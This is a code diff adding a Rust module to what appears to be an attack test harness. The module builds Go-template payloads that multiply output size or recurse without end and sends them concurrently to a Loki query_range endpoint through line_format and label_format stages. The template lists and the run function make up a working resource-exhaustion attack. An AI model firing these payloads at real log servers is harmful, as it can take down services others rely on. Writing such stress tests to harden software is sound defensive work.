@@ -1,0 +1,68 @@
+//! Templates whose results grow by multiplication, and recursions that never end.
+
+use anyhow::Result;
+
+use super::Attack;
+use crate::ground::Ground;
+
+/// This attack.
+pub static ATTACK: Attack =
+    Attack { name: "templates", about: "templates whose results multiply on one line", run };
+
+/// Steps that make their argument longer, `X` is the argument.
+const STEPS: &[&str] = &[
+    r#"replace "a" "aaaaaaaaaaaaaaaa" X"#,
+    r#"X | Replace "a" "aaaaaaaaaaaaaaaa" -1"#,
+    r#"regexReplaceAll "." X "$0$0$0$0$0$0$0$0""#,
+    r#"regexReplaceAllLiteral "." X "aaaaaaaaaaaaaaaa""#,
+    "indent 10000 X",
+    "nindent 10000 X",
+    "b64enc X",
+    r#"printf "%x" X"#,
+    r#"printf "%s%s%s%s%s%s%s%s" X X X X X X X X"#,
+    r#"printf "%100000s" X"#,
+    r#"printf "%q" X"#,
+    "repeat 1000 X",
+    "urlencode X",
+    "X | html | js",
+    "alignRight 1000000 X",
+    "print X X X X",
+    r#"join X X"#,
+];
+const ENDLESS: &[&str] = &[
+    r#"{{define "a"}}{{template "a" .}}{{end}}{{template "a" .}}"#,
+    r#"{{define "a"}}aaaa{{template "a" .}}{{template "a" .}}{{end}}{{template "a" .}}"#,
+    r#"{{range (until 1000000000)}}aaaa{{end}}"#,
+    r#"{{range $i, $c := (__line__ | split "")}}{{range $i, $c := (__line__ | split "")}}aaaa{{end}}{{end}}"#,
+];
+
+fn run(ground: &Ground<'_>) -> Result<()> {
+    let mut templates: Vec<String> = ENDLESS.iter().map(|text| (*text).to_owned()).collect();
+    for step in STEPS {
+        for depth in [4, 20] {
+            let nested =
+                (0..depth).fold("__line__".to_owned(), |inner, _| step.replace('X', &format!("({inner})")));
+            templates.push(format!("{{{{{nested}}}}}"));
+        }
+        let doubled = format!("{{{{$x := __line__}}}}{}{{{{$x}}}}", assign(step).repeat(30));
+        templates.push(doubled);
+    }
+    let together = ground.pick(4, 16);
+    for group in templates.chunks(together) {
+        std::thread::scope(|scope| {
+            for template in group {
+                scope.spawn(move || {
+                    for stage in ["line_format ", "label_format grown="] {
+                        let query = format!("{{job=\"bystander\"}} | {stage}`{template}`");
+                        ground.form("/loki/api/v1/query_range", &[("query", &query), ("limit", "5000")]);
+                    }
+                });
+            }
+        });
+    }
+    Ok(())
+}
+
+fn assign(step: &str) -> String {
+    format!("{{{{$x = {}}}}}", step.replace('X', "$x"))
+}
